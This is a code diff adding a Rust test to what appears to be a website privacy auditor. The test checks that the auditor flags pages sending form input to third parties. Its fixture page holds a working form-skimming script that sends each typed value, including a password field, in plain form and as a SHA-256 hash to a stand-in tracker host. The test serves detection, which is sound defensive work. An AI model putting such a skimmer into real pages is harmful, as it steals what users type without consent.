@@ -217,6 +217,35 @@ fn a_known_tracker_is_not_necessary() {
     assert!(status == 1 && told.contains("contacted-before-choice"), "{told}");
 }
 
+/// What is typed into a form is found with others, plain and hashed; the form is not sent.
+#[test]
+fn what_is_typed_is_found_with_others() {
+    let demo = Demo::start();
+    let (_, google) = demo.site.stand_ins()[0];
+    let page = format!(
+        "<!doctype html><html lang=en><title>A form</title><link rel=icon href=data:,>
+        <form action=/send method=post><input name=email><input type=password name=secret><textarea></textarea><button>Send</button></form>
+        <script>
+        const to = 'http://{google}/cell/'
+        document.forms[0].addEventListener('change', async ({{ target }}) => {{
+            navigator.sendBeacon(to + 'plain', JSON.stringify({{ [target.name]: target.value }}))
+            const bytes = new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(target.value)))
+            new Image().src = to + 'hashed?' + [...bytes].map(byte => byte.toString(16).padStart(2, '0')).join('')
+            document.forms[0].requestSubmit()
+            document.forms[0].submit()
+        }})
+        </script>"
+    );
+    demo.site.replace("/form", "text/html", 200, page);
+    let (_, told, _) = demo.audit("/form", &["--state", "nothing", "--forms"]);
+    let title = "receives what is typed into a form that nobody sent: a text, a text as SHA-256, an e-mail address, an e-mail address as SHA-256";
+    assert!(told.contains(&format!("warning[typed-values-sent]: 127.0.0.2 {title}")), "{told}");
+    let asked = demo.site.first_party_calls();
+    assert!(!asked.iter().any(|one| one.path.contains("/send")), "{asked:?}");
+    let (_, told, _) = demo.audit("/form", &["--state", "nothing"]);
+    assert!(!told.contains("typed-values-sent"), "{told}");
+}
+
 /// Pages are found by the sitemap and by links; what may not be opened, or ends something, is not.
 #[test]
 fn pages_are_looked_for_politely() {
